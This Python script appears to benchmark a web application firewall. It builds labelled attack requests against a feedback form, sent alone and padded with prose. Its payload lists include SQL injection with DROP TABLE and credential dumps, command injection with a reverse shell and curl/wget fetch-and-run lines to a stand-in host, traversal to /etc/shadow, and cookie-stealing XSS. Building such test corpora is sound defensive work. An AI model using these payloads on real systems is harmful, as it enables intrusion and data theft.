#!/usr/bin/env python3
"""What judging documents leniently costs (issue 16): attacks of each family,
built from their grammar here, sent as a form field on their own and padded
into a document shape (prose lines before and after). Writes a labelled corpus
for `wafer eval`; bench/document_cost.sh runs it at paranoia 1 and 2.

    python3 bench/document_cost.py > /tmp/doc-cost.jsonl
"""
import itertools
import json
import urllib.parse

PROSE = [
    "Thanks for the quick reply, the export finished overnight without errors.",
    "We still see the old totals on the dashboard after the nightly refresh.",
    "Could you check whether the report uses the new currency settings?",
]

SQLI = [f"{q}{sep}{body}{end}" for q, sep, body, end in itertools.product(
    ["1'", "x\"", "9)"],
    [" ", "/**/"],
    ["UNION SELECT username, password FROM users", "OR 1=1", "AND SLEEP(5)",
     "; DROP TABLE orders", "AND extractvalue(1,concat(0x7e,version()))"],
    ["-- ", "#", ""],
)]
RCE = [f"{sep}{cmd}" for sep, cmd in itertools.product(
    [";", "|", "&&", "$(", "`", "\n"],
    ["cat /etc/passwd", "id", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     "curl -s http://203.0.113.9/x.sh | sh", "wget -qO- 203.0.113.9/a | bash"],
)]
LFI = [f"{up * n}{target}" for up, n, target in itertools.product(
    ["../", "..%2f", "....//", "..\\"],
    [3, 6],
    ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ"],
)]
XSS = [f"{pre}{tag}" for pre, tag in itertools.product(
    ["", "\"> ", "'>"],
    ["<script>fetch('//203.0.113.9/?c='+document.cookie)</script>",
     "<img src=x onerror=alert(document.domain)>",
     "<svg onload=eval(atob('YWxlcnQoMSk='))>",
     "<a href=\"javascript:alert(1)\">x</a>"],
)]


def case(i, family, value, shape):
    if shape == "padded":
        value = "\n".join(PROSE[:2] + [value] + PROSE[2:])
    body = urllib.parse.urlencode({"comment": value})
    return {
        "id": f"doccost-{family}-{shape}-{i}",
        "source": f"doccost:{shape}",
        "method": "POST",
        "uri": "/feedback",
        "headers": [["Host", "shop.example"], ["Content-Type", "application/x-www-form-urlencoded"]],
        "body": body,
        "label": "attack",
        "class": family,
    }


for family, values in [("sqli", SQLI), ("rce", RCE), ("lfi", LFI), ("xss", XSS)]:
    for i, v in enumerate(values):
        for shape in ("alone", "padded"):
            print(json.dumps(case(i, family, v, shape)))
